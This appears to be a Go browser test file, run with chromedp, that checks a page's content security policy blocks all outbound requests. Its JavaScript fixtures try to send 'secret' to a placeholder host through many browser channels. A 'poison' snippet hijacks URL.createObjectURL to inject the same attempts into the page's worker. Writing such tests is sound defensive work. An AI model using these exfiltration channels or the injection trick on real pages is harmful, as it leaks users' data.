//go:build browser

package main

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/chromedp/chromedp"
)

// TestNothingLeavesThePage looks at all that the browser asked of any host: the
// site is its proxy.
func TestNothingLeavesThePage(t *testing.T) {
	var files []string
	entries, err := os.ReadDir(filepath.Join(pages, "site"))
	if err != nil {
		t.Fatal(err)
	}
	for _, entry := range entries {
		files = append(files, "GET "+host.URL+"/"+entry.Name())
	}
	p := tried(t, folderPage())
	p.click("#share")
	for _, asked := range host.requests() {
		if asked != "GET "+folderPage() && !slices.Contains(files, asked) {
			t.Errorf("the page asked for %s", asked)
		}
	}
	single := tried(t, singlePage())
	single.click("#share")
	if asked := host.requests(); len(asked) > 0 {
		t.Errorf("the one file asked for %q", asked)
	}
}

// TestEveryRequestIsNoted has a page without rules send, so that the two tests
// beside this one can fail.
func TestEveryRequestIsNoted(t *testing.T) {
	p := open(t, "about:blank")
	p.expected = true
	p.act(`const image = (url) => new Promise((resolve) => { Object.assign(new Image(), { onload: resolve, onerror: resolve, src: url }); });
		await image("http://elsewhere.example/image"); await image("https://elsewhere.example/image")`)
	asked := host.requests()
	for _, want := range []string{"GET http://elsewhere.example/image", "CONNECT //elsewhere.example:443"} {
		if !slices.Contains(asked, want) {
			t.Errorf("%s is not among %q", want, asked)
		}
	}
}

// sendAll tries each way to send, and waits until the policy has refused it: there
// is an end only if it refuses all.
const sendAll = `const sendAll = async (ways) => {
	for (const [name, send] of Object.entries(ways)) {
		const host = name + ".elsewhere.example";
		const refused = new Promise((resolve) => addEventListener("securitypolicyviolation", (e) => { if (e.blockedURI.includes(host)) resolve(); }));
		try { Promise.resolve(send("http://" + host + "/")).catch(() => {}); } catch {}
		await refused;
	}
};
const anywhere = {
	fetch: (url) => fetch(url, { method: "POST", body: "secret" }),
	xhr: (url) => { const request = new XMLHttpRequest(); request.open("POST", url); request.send("secret"); },
	socket: (url) => new WebSocket(url.replace("http", "ws")),
	events: (url) => new EventSource(url),
};
const add = (tag, attributes) => { const element = document.createElement(tag); for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value); document.body.append(element); return element; };
const page = {
	...anywhere,
	beacon: (url) => navigator.sendBeacon(url, "secret"),
	module: (url) => import(url),
	image: (url) => { new Image().src = url; },
	video: (url) => add("video", { src: url }),
	frame: (url) => add("iframe", { src: url }),
	style: (url) => add("link", { rel: "stylesheet", href: url }),
	font: (url) => new FontFace("x", "url(" + url + ")").load(),
	css: (url) => { document.body.style.backgroundImage = "url(" + url + ")"; return document.body.getBoundingClientRect(); },
	form: (url) => add("form", { action: url, method: "post" }).submit(),
};
`

// TestThePageCannotSend tries to, from the page and from its worker.
func TestThePageCannotSend(t *testing.T) {
	poison := `const make = URL.createObjectURL; URL.createObjectURL = (blob) => make(blob.type === "text/javascript" ? new Blob([blob, ` +
		literal(";(async () => { "+sendAll+`await sendAll(anywhere) })().then(() => setInterval(() => postMessage({ version: "tried" }), 20));`) + `], blob) : blob);`
	for _, address := range []string{folderPage(), singlePage()} {
		p := open(t, "about:blank")
		p.expected = true
		p.first(poison)
		p.do(chromedp.Navigate(address))
		p.until(`document.getElementById("version").textContent.startsWith("tried")`)
		p.act(sendAll + `await sendAll(page); window.open("http://elsewhere.example/open", "_blank", "noopener")`)
		for _, asked := range host.requests() {
			if strings.Contains(asked, "elsewhere") {
				t.Errorf("%s: it could send: %s", address, asked)
			}
		}
	}
}
